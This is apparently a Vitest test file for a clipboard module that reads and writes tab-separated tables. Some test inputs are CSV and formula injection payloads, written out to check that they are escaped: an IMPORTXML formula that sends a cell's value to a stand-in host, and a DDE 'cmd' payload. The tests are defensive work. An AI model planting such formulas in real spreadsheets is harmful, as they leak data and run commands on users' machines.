import { expect, test } from "vitest";
import { parseTable, writeTable } from "./clipboard";

test.each([
  ["12", [["12"]]],
  [
    "a\tb\nc\td",
    [
      ["a", "b"],
      ["c", "d"],
    ],
  ],
  [
    "a\tb\r\nc\td\r\n",
    [
      ["a", "b"],
      ["c", "d"],
    ],
  ],
  ["a\t\tc", [["a", "", "c"]]],
  ['"un\nretour"\tb', [["un\nretour", "b"]]],
  ['"34 1/2"" po"\t2\n', [['34 1/2" po', "2"]]],
  ["\n5", [[""], ["5"]]],
  ["", []],
  ['"sans fin', [["sans fin"]]],
] as const)("%j is read as a table", (text, rows) => {
  expect(parseTable(text)).toEqual(rows);
});

test.each([
  ['=IMPORTXML("http://e.example/"&B1)', `"'=IMPORTXML(""http://e.example/""&B1)"`],
  ["@SUM(1)", "'@SUM(1)"],
  ["+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
  ["-1+1", "'-1+1"],
  ["-3", "-3"],
  ["34 1/2", "34 1/2"],
  ["a=b", "a=b"],
] as const)("%j runs nothing where it is pasted, and reads back", (text, pasted) => {
  expect(writeTable([[text]])).toBe(pasted);
  expect(parseTable(pasted)).toEqual([[text]]);
});

test("what is written reads back", () => {
  const table = [
    ["PS-ER", '34 1/2" × 15', "12,50"],
    ["deux\nlignes", "un\tonglet", ""],
  ];
  expect(parseTable(writeTable(table))).toEqual(table);
});
